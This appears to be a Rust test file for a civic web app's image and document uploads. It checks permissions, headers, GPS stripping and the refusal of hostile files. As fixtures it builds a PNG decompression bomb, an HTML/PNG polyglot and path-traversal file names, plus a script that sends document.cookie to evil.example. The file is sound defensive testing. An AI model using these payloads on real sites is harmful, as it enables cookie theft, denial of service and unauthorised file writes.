//! Images and documents on proposals, projects and processes: added by whoever may, shown with
//! their text alternative, served with the right headers to whoever may see their item, and
//! every hostile upload refused with a clear message and nothing written.

use std::io::Cursor;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use axum::body::{Body, Bytes};
use axum::http::{header, Method, Request};
use futures::StreamExt;

use crate::common::{Allow, Browser, Page, PASSWORD};
use crate::town::TestTown;
use crate::voting::{add_budget, budget_form, project};

const BOUNDARY: &str = "XattachX";

// ---- files made for the tests ----

/// A PNG of `width` × `height`, a gradient (so the encoders have something to do).
fn png(width: u32, height: u32) -> Vec<u8> {
    let picture = image::RgbImage::from_fn(width, height, |x, y| {
        image::Rgb([(x % 256) as u8, (y % 256) as u8, 120])
    });
    let mut out = Vec::new();
    picture
        .write_to(&mut Cursor::new(&mut out), image::ImageFormat::Png)
        .expect("png");
    out
}

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for b in bytes {
        crc ^= u32::from(*b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// A PNG chunk with its length and checksum, as a decoder expects it.
fn chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut out = (data.len() as u32).to_be_bytes().to_vec();
    let mut body = kind.to_vec();
    body.extend_from_slice(data);
    out.extend_from_slice(&body);
    out.extend_from_slice(&crc32(&body).to_be_bytes());
    out
}

/// A few hundred bytes whose header claims a 100 000 × 100 000 picture (40 GB decoded).
fn png_bomb() -> Vec<u8> {
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&100_000u32.to_be_bytes());
    ihdr.extend_from_slice(&100_000u32.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    out.extend(chunk(b"IHDR", &ihdr));
    out.extend(chunk(
        b"IDAT",
        &[0x78, 0x9c, 0x63, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01],
    ));
    out.extend(chunk(b"IEND", &[]));
    out
}

/// A valid PNG that is also a web page: a script in a text chunk and after its end.
fn polyglot() -> Vec<u8> {
    let picture = png(64, 48);
    let iend = picture.len() - 12;
    let mut out = picture[..iend].to_vec();
    out.extend(chunk(
        b"tEXt",
        b"Comment\0<html><script>alert('chunk')</script></html>",
    ));
    out.extend_from_slice(&picture[iend..]);
    out.extend_from_slice(b"<html><body><script>alert('tail')</script></body></html>");
    out
}

/// Where the photo was taken, as a phone writes it: the text the tests look for afterwards.
const GPS_MARK: &[u8] = b"PLENUM-GPS-43.6047N-1.4442E";

/// A JPEG photo with an EXIF block holding a GPS directory (GPSAreaInformation = [`GPS_MARK`]).
fn jpeg_with_gps() -> Vec<u8> {
    let picture = image::RgbImage::from_fn(640, 480, |x, y| {
        image::Rgb([(x % 256) as u8, 90, (y % 256) as u8])
    });
    let mut plain = Vec::new();
    image::codecs::jpeg::JpegEncoder::new_with_quality(&mut plain, 90)
        .encode_image(&picture)
        .expect("jpeg");
    // TIFF, big-endian: IFD0 with one entry pointing to the GPS IFD, which has one entry.
    let mut tiff = b"MM\x00\x2a\x00\x00\x00\x08".to_vec();
    tiff.extend_from_slice(&1u16.to_be_bytes());
    tiff.extend_from_slice(&[0x88, 0x25, 0x00, 0x04, 0, 0, 0, 1, 0, 0, 0, 26]);
    tiff.extend_from_slice(&0u32.to_be_bytes());
    tiff.extend_from_slice(&1u16.to_be_bytes());
    let area_len = (8 + GPS_MARK.len()) as u32;
    tiff.extend_from_slice(&[0x00, 0x1c, 0x00, 0x07]);
    tiff.extend_from_slice(&area_len.to_be_bytes());
    tiff.extend_from_slice(&44u32.to_be_bytes());
    tiff.extend_from_slice(&0u32.to_be_bytes());
    tiff.extend_from_slice(b"ASCII\0\0\0");
    tiff.extend_from_slice(GPS_MARK);
    let mut app1 = b"Exif\0\0".to_vec();
    app1.extend_from_slice(&tiff);
    let mut out = plain[..2].to_vec();
    out.extend_from_slice(&[0xFF, 0xE1]);
    out.extend_from_slice(&((app1.len() + 2) as u16).to_be_bytes());
    out.extend_from_slice(&app1);
    out.extend_from_slice(&plain[2..]);
    out
}

/// A small but well-formed PDF.
fn pdf() -> Vec<u8> {
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n".to_vec()
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

// ---- uploading ----

fn form_body(alt: &str, file_name: &str, content_type: &str, bytes: &[u8]) -> Vec<u8> {
    let mut body = format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\n{alt}\r\n--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{file_name}\"\r\nContent-Type: {content_type}\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(bytes);
    body.extend_from_slice(format!("\r\n--{BOUNDARY}--\r\n").as_bytes());
    body
}

fn upload_request(b: &Browser, target: &str, body: Body) -> Request<Body> {
    Request::builder()
        .method(Method::POST)
        .uri(format!("/attachments/{target}?csrf={}", b.csrf()))
        .header(
            header::CONTENT_TYPE,
            format!("multipart/form-data; boundary={BOUNDARY}"),
        )
        .body(body)
        .expect("request")
}

/// Sends the upload form for `target` (`proposal/{id}`, `project/{id}`, `process/{id}`).
async fn upload(
    b: &mut Browser,
    target: &str,
    alt: &str,
    file_name: &str,
    content_type: &str,
    bytes: &[u8],
) -> Page {
    let request = upload_request(
        b,
        target,
        Body::from(form_body(alt, file_name, content_type, bytes)),
    );
    b.send(request).await
}

/// Sends the upload form for `target` with a PNG of `size` (width, height) named `file_name`.
async fn upload_png(b: &mut Browser, target: &str, alt: &str, file_name: &str, size: (u32, u32)) -> Page {
    upload(b, target, alt, file_name, "image/png", &png(size.0, size.1)).await
}

/// marie's picture of the pond, sent for proposal `id`.
async fn upload_pond(marie: &mut Browser, id: &str) -> Page {
    upload_png(
        marie,
        &format!("proposal/{id}"),
        "The pond",
        "pond.png",
        (300, 200),
    )
    .await
}

/// The ids of the attachments stored for a proposal.
async fn stored(town: &TestTown, proposal_id: &str) -> Vec<String> {
    let id = proposal_id.to_string();
    town.db(move |conn| {
        let shown =
            plenum::domain::attachments::of(conn, plenum::domain::attachments::OwnerKind::Proposal, &id)?;
        Ok(shown
            .images
            .iter()
            .chain(&shown.documents)
            .map(|a| a.id.clone())
            .collect())
    })
    .await
}

fn files_on_disk(town: &TestTown) -> usize {
    town.state.uploads.count_files()
}

async fn marie_and_her_proposal() -> (TestTown, String) {
    let town = TestTown::new()
        .with_process("budget", Allow::ALL)
        .with_citizen("marie")
        .with_citizen("jean")
        .with_staff("sam")
        .with_proposal("budget", "marie", "Benches in the park")
        .await;
    let id = town.proposal("Benches in the park");
    (town, id)
}

/// marie's proposal, and marie's browser to act on it.
async fn marie_at_her_proposal() -> (TestTown, String, Browser) {
    let (town, id) = marie_and_her_proposal().await;
    let marie = town.browser_of("marie");
    (town, id, marie)
}

/// A refused upload left nothing: no row on the proposal, no file on disk.
async fn assert_nothing_kept(town: &TestTown, id: &str) {
    assert!(stored(town, id).await.is_empty());
    assert_eq!(files_on_disk(town), 0);
}

/// marie's proposal with one image she added: the town, the proposal, her browser, the
/// attachment ids stored.
async fn marie_and_her_pond_image() -> (TestTown, String, Browser, Vec<String>) {
    let (town, id, mut marie) = marie_at_her_proposal().await;
    upload_pond(&mut marie, &id).await.assert_status(303);
    let ids = stored(&town, &id).await;
    (town, id, marie, ids)
}

#[tokio::test]
async fn an_author_adds_an_image_shown_with_its_text_and_served_with_long_cache_headers() {
    let (town, id, mut marie) = marie_at_her_proposal().await;
    let added = upload_png(
        &mut marie,
        &format!("proposal/{id}"),
        "The old bench by the pond",
        "bench.png",
        (1600, 900),
    )
    .await;
    added.assert_status(303);
    assert!(
        added.location().contains("notice=attachment-added"),
        "{}",
        added.location()
    );
    let ids = stored(&town, &id).await;
    assert_eq!(ids.len(), 1);
    let page = town.browser().get(&format!("/proposals/{id}")).await;
    page.assert_status(200)
        .assert_contains("alt=\"The old bench by the pond\"")
        .assert_contains("width=\"1200\" height=\"675\"")
        .assert_contains("loading=\"lazy\"")
        .assert_contains(&format!("/uploads/{}/400 400w", ids[0]));
    let mut anonymous = town.browser();
    let served = anonymous.get(&format!("/uploads/{}/1200", ids[0])).await;
    served.assert_status(200);
    assert_eq!(served.headers[header::CONTENT_TYPE], "image/jpeg");
    assert_eq!(served.headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    assert!(served.headers[header::CACHE_CONTROL]
        .to_str()
        .unwrap()
        .contains("immutable"));
    assert!(served.headers[header::CONTENT_DISPOSITION]
        .to_str()
        .unwrap()
        .starts_with("inline"));
    let decoded = image::load_from_memory(&served.bytes).expect("a real picture");
    assert_eq!((decoded.width(), decoded.height()), (1200, 675));
    let small = anonymous.get(&format!("/uploads/{}/400", ids[0])).await;
    assert_eq!(
        image::load_from_memory(&small.bytes).expect("picture").width(),
        400
    );
    // The browser asks again with the ETag: nothing to send.
    let etag = served.headers[header::ETAG].to_str().unwrap().to_string();
    let again = anonymous
        .send(
            Request::get(format!("/uploads/{}/1200", ids[0]))
                .header(header::IF_NONE_MATCH, etag)
                .body(Body::empty())
                .unwrap(),
        )
        .await;
    again.assert_status(304);
    assert!(again.bytes.is_empty());
    // A size that is not stored is not found, nor is a path.
    anonymous
        .get(&format!("/uploads/{}/file", ids[0]))
        .await
        .assert_status(404);
    anonymous
        .get(&format!("/uploads/{}/..%2F..%2Fetc", ids[0]))
        .await
        .assert_status(404);
}

#[tokio::test]
async fn a_script_named_jpg_is_refused_and_nothing_is_written() {
    let (town, id, mut marie) = marie_at_her_proposal().await;
    let script = b"<script>document.location='https://evil.example/?c='+document.cookie</script>";
    let refused = upload(
        &mut marie,
        &format!("proposal/{id}"),
        "A bench",
        "bench.jpg",
        "image/jpeg",
        script,
    )
    .await;
    refused
        .assert_status(422)
        .assert_contains("neither a JPEG, PNG or WebP image nor a PDF");
    assert_nothing_kept(&town, &id).await;
}

#[tokio::test]
async fn an_image_bomb_is_refused_from_its_header_before_decoding() {
    let (town, id, mut marie) = marie_at_her_proposal().await;
    let bomb = png_bomb();
    assert!(bomb.len() < 1000, "a small file");
    let started = std::time::Instant::now();
    let refused = upload(
        &mut marie,
        &format!("proposal/{id}"),
        "A bench",
        "bench.png",
        "image/png",
        &bomb,
    )
    .await;
    refused.assert_status(422).assert_contains("too many pixels");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(5),
        "refused at once"
    );
    assert_nothing_kept(&town, &id).await;
}

#[tokio::test]
async fn a_polyglot_image_is_served_re_encoded_with_nothing_of_its_script() {
    let (town, id, mut marie) = marie_at_her_proposal().await;
    let file = polyglot();
    assert!(
        image::load_from_memory(&file).is_ok(),
        "the polyglot is a valid picture"
    );
    upload(
        &mut marie,
        &format!("proposal/{id}"),
        "A bench",
        "bench.png",
        "image/png",
        &file,
    )
    .await
    .assert_status(303);
    let ids = stored(&town, &id).await;
    for size in ["400", "1200"] {
        let served = town.browser().get(&format!("/uploads/{}/{size}", ids[0])).await;
        served.assert_status(200);
        assert!(
            !contains(&served.bytes, b"<script"),
            "no script in the served {size}"
        );
        assert!(
            !contains(&served.bytes, b"<html"),
            "no markup in the served {size}"
        );
        assert!(served.headers[header::CONTENT_SECURITY_POLICY]
            .to_str()
            .unwrap()
            .contains("sandbox"));
        image::load_from_memory(&served.bytes).expect("still a picture");
    }
}

#[tokio::test]
async fn an_upload_of_100_mb_is_cut_off_while_it_streams_and_nothing_is_written() {
    let (town, id, mut marie) = marie_at_her_proposal().await;
    const TOTAL: usize = 100 * 1024 * 1024;
    const CHUNK: usize = 64 * 1024;
    let pulled = Arc::new(AtomicUsize::new(0));
    let counter = pulled.clone();
    let mut head = format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\nA bench\r\n--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"huge.png\"\r\nContent-Type: image/png\r\n\r\n"
    )
    .into_bytes();
    head.extend_from_slice(b"\x89PNG\r\n\x1a\n");
    let head = Bytes::from(head);
    let zeros = Bytes::from(vec![0u8; CHUNK]);
    // The chunks are made as the server asks for them: the test holds no 100 MB either.
    let stream = futures::stream::once(async move { Ok::<_, std::io::Error>(head) }).chain(
        futures::stream::iter(0..TOTAL / CHUNK).map(move |_| {
            counter.fetch_add(CHUNK, Ordering::SeqCst);
            Ok::<_, std::io::Error>(zeros.clone())
        }),
    );
    let refused = marie
        .send(upload_request(
            &marie,
            &format!("proposal/{id}"),
            Body::from_stream(stream),
        ))
        .await;
    refused
        .assert_status(413)
        .assert_contains("larger than allowed (10 MB at most)");
    let read = pulled.load(Ordering::SeqCst);
    assert!(
        read <= 11 * 1024 * 1024,
        "the upload was cut off at the limit, not read to its end: {read} bytes"
    );
    assert_nothing_kept(&town, &id).await;
}

#[tokio::test]
async fn a_path_in_the_file_name_is_ignored() {
    let (town, id, mut marie) = marie_at_her_proposal().await;
    let name = "../../../../etc/cron.d/plan.pdf";
    upload(
        &mut marie,
        &format!("proposal/{id}"),
        "",
        name,
        "application/pdf",
        &pdf(),
    )
    .await
    .assert_status(303);
    let ids = stored(&town, &id).await;
    assert_eq!(ids.len(), 1);
    let root = town.state.config.upload_dir.clone();
    // Only the attachment's own folder, named by its id, holding the file named by its size.
    let entries: Vec<String> = std::fs::read_dir(&root)
        .expect("upload folder")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(entries, vec![ids[0].clone()]);
    assert!(root.join(&ids[0]).join("file").is_file());
    let served = town.browser().get(&format!("/uploads/{}/file", ids[0])).await;
    served.assert_status(200);
    assert_eq!(served.headers[header::CONTENT_TYPE], "application/pdf");
    let disposition = served.headers[header::CONTENT_DISPOSITION].to_str().unwrap();
    assert!(
        disposition.starts_with("attachment; filename=\"plan.pdf\""),
        "{disposition}"
    );
    // Listed on the proposal with its name, type and size in the reader's language.
    town.browser()
        .get(&format!("/proposals/{id}"))
        .await
        .assert_contains("plan.pdf")
        .assert_contains("(PDF, 1 KB)");
    let mut french = town.browser();
    french.accept_language = "fr".into();
    french
        .get(&format!("/proposals/{id}"))
        .await
        .assert_contains("(PDF, 1 ko)");
}

#[tokio::test]
async fn someone_else_can_neither_add_to_nor_remove_from_a_proposal_not_theirs() {
    let (town, id, mut marie, ids) = marie_and_her_pond_image().await;
    let mut jean = town.browser_of("jean");
    upload_png(
        &mut jean,
        &format!("proposal/{id}"),
        "Not mine",
        "x.png",
        (50, 50),
    )
    .await
    .assert_status(403);
    jean.get(&format!("/attachments/proposal/{id}"))
        .await
        .assert_status(403);
    jean.post(&format!("/attachments/proposal/{id}/{}/remove", ids[0]), &[])
        .await
        .assert_status(403);
    // Nor through another item of his own: the attachment must belong to the item named.
    let his = jean
        .propose_id("budget", "A fountain on the square", crate::town::PROPOSAL_BODY)
        .await;
    jean.post(&format!("/attachments/proposal/{his}/{}/remove", ids[0]), &[])
        .await
        .assert_status(404);
    assert_eq!(stored(&town, &id).await, ids);
    town.browser()
        .get(&format!("/uploads/{}/400", ids[0]))
        .await
        .assert_status(200);
    // A citizen cannot touch a process's attachments at all.
    let process = town.detail("budget").process.id.clone();
    upload_png(
        &mut jean,
        &format!("process/{process}"),
        "Map",
        "map.png",
        (50, 50),
    )
    .await
    .assert_status(403);
    assert_eq!(files_on_disk(&town), 2, "marie's two sizes only");
    // Her own removal works, and takes the files.
    marie
        .post(&format!("/attachments/proposal/{id}/{}/remove", ids[0]), &[])
        .await
        .assert_status(303);
    assert_nothing_kept(&town, &id).await;
    town.browser()
        .get(&format!("/uploads/{}/400", ids[0]))
        .await
        .assert_status(404);
}

#[tokio::test]
async fn a_hidden_proposals_image_is_served_to_staff_only() {
    let (town, id, _marie, ids) = marie_and_her_pond_image().await;
    let hidden = id.clone();
    town.state
        .db
        .write(move |conn| plenum::domain::proposals::set_hidden(conn, &hidden, true))
        .await
        .expect("hidden");
    let path = format!("/uploads/{}/400", ids[0]);
    town.browser().get(&path).await.assert_status(404);
    town.browser_of("jean").get(&path).await.assert_status(404);
    let staff = town.browser_of("sam").get(&path).await;
    staff.assert_status(200);
    assert_eq!(staff.headers[header::CACHE_CONTROL], "private, no-store");
}

#[tokio::test]
async fn exif_gps_data_is_removed_from_a_photo() {
    let (town, id) = marie_and_her_proposal().await;
    let photo = jpeg_with_gps();
    assert!(
        contains(&photo, GPS_MARK) && contains(&photo, b"Exif"),
        "the photo carries GPS data"
    );
    let mut marie = town.browser_of("marie");
    upload(
        &mut marie,
        &format!("proposal/{id}"),
        "The pond at dusk",
        "IMG_0042.JPG",
        "image/jpeg",
        &photo,
    )
    .await
    .assert_status(303);
    let ids = stored(&town, &id).await;
    for size in ["400", "1200"] {
        let served = town.browser().get(&format!("/uploads/{}/{size}", ids[0])).await;
        served.assert_status(200);
        assert!(!contains(&served.bytes, GPS_MARK), "no GPS data in {size}");
        assert!(!contains(&served.bytes, b"Exif"), "no EXIF block in {size}");
    }
    // Nothing of the original is kept on the disk either.
    let root = town.state.config.upload_dir.join(&ids[0]);
    for entry in std::fs::read_dir(root).expect("folder") {
        let bytes = std::fs::read(entry.expect("entry").path()).expect("file");
        assert!(!contains(&bytes, GPS_MARK));
    }
}

#[tokio::test]
async fn an_image_without_its_text_alternative_is_refused() {
    let (town, id, mut marie) = marie_at_her_proposal().await;
    let refused = upload_png(
        &mut marie,
        &format!("proposal/{id}"),
        "  ",
        "bench.png",
        (300, 200),
    )
    .await;
    refused
        .assert_status(422)
        .assert_contains("Describe the image in a few words")
        .assert_contains("aria-invalid=\"true\"");
    assert_nothing_kept(&town, &id).await;
}

#[tokio::test]
async fn a_proposal_answered_can_no_longer_get_attachments_from_its_author() {
    let (town, id) = marie_and_her_proposal().await;
    let mut sam = town.browser_of("sam");
    sam.post(
        &format!("/admin/proposals/{id}/answer"),
        &[
            ("state", "accepted"),
            ("answer", "Accepted: the benches will be installed in spring."),
        ],
    )
    .await
    .assert_status(303);
    let mut marie = town.browser_of("marie");
    upload_pond(&mut marie, &id).await.assert_status(403);
    // Staff still may, on a project or the process page as on the proposal.
    upload_png(
        &mut sam,
        &format!("proposal/{id}"),
        "The site",
        "site.png",
        (300, 200),
    )
    .await
    .assert_status(303);
    let process = town.detail("budget").process.id.clone();
    upload_png(
        &mut sam,
        &format!("process/{process}"),
        "Map of the district",
        "map.png",
        (800, 600),
    )
    .await
    .assert_status(303);
    let page = town.browser().get("/processes/budget").await;
    page.assert_contains("alt=\"Map of the district\"")
        .assert_contains("alt=\"The site\"");
    assert_eq!(files_on_disk(&town), 4);
}

#[tokio::test]
async fn the_proposal_federates_its_images_and_documents() {
    let (town, id, mut marie) = marie_at_her_proposal().await;
    upload_png(
        &mut marie,
        &format!("proposal/{id}"),
        "The old bench",
        "bench.png",
        (1600, 900),
    )
    .await
    .assert_status(303);
    upload(
        &mut marie,
        &format!("proposal/{id}"),
        "",
        "quote.pdf",
        "application/pdf",
        &pdf(),
    )
    .await
    .assert_status(303);
    let page = town
        .browser()
        .send(
            Request::get(format!("/proposals/{id}"))
                .header(header::ACCEPT, "application/activity+json")
                .body(Body::empty())
                .unwrap(),
        )
        .await;
    let json = page.json();
    let attachment = json["attachment"].as_array().expect("attachment");
    assert_eq!(attachment.len(), 2);
    assert_eq!(attachment[0]["type"], "Image");
    assert_eq!(attachment[0]["name"], "The old bench");
    assert_eq!(attachment[0]["mediaType"], "image/jpeg");
    assert!(attachment[0]["url"]
        .as_str()
        .unwrap()
        .starts_with("http://127.0.0.1:8080/uploads/"));
    assert_eq!(attachment[1]["type"], "Document");
    assert_eq!(attachment[1]["name"], "quote.pdf");
    assert_eq!(json["image"]["url"], attachment[0]["url"]);
}

#[tokio::test]
async fn deleting_an_account_deletes_its_uploads_which_its_export_listed() {
    let (town, id, mut marie) = marie_at_her_proposal().await;
    upload_png(
        &mut marie,
        &format!("proposal/{id}"),
        "My street",
        "street.png",
        (300, 200),
    )
    .await
    .assert_status(303);
    let export = marie.get("/account/export.json").await;
    export.assert_status(200);
    assert_eq!(export.json()["attachments"][0]["alt_text"], "My street");
    assert_eq!(files_on_disk(&town), 2);
    marie.post("/account/delete", &[("password", PASSWORD)]).await;
    assert_nothing_kept(&town, &id).await;
}

#[tokio::test]
async fn a_projects_image_is_shown_on_its_ballot_card_and_its_page() {
    use plenum::domain::budgets;
    let (town, _) = marie_and_her_proposal().await;
    let slug = town.detail("budget").process.slug.clone();
    let process_id = town.detail("budget").process.id.clone();
    let budget = add_budget(
        &town,
        &process_id,
        budget_form("parks", "Parks", "50000", "approval", "greedy"),
        vec![project("pond", "A bench by the pond", "12000")],
    )
    .await;
    let budget_id = budget.id.clone();
    let project_id = town
        .db(move |c| budgets::projects(c, &budget_id))
        .await
        .remove(0)
        .id;
    let budget_slug = budget.slug;
    // A citizen may not add to a project; staff may.
    let mut marie = town.browser_of("marie");
    let refused = upload_png(
        &mut marie,
        &format!("project/{project_id}"),
        "A pond",
        "p.png",
        (800, 600),
    )
    .await;
    assert!(
        refused.status == 403 || refused.status == 404,
        "a citizen added to a project: {}",
        refused.status
    );
    let mut sam = town.browser_of("sam");
    upload_png(
        &mut sam,
        &format!("project/{project_id}"),
        "The pond at dusk",
        "pond.png",
        (800, 600),
    )
    .await
    .assert_status(303);
    let mut visitor = town.browser();
    visitor
        .get(&format!(
            "/processes/{slug}/budgets/{budget_slug}/projects/{project_id}"
        ))
        .await
        .assert_status(200)
        .assert_contains("alt=\"The pond at dusk\"");
    visitor
        .get(&format!("/processes/{slug}/budgets/{budget_slug}"))
        .await
        .assert_status(200)
        .assert_contains("class=\"card-image\"")
        .assert_contains("alt=\"The pond at dusk\"");
}
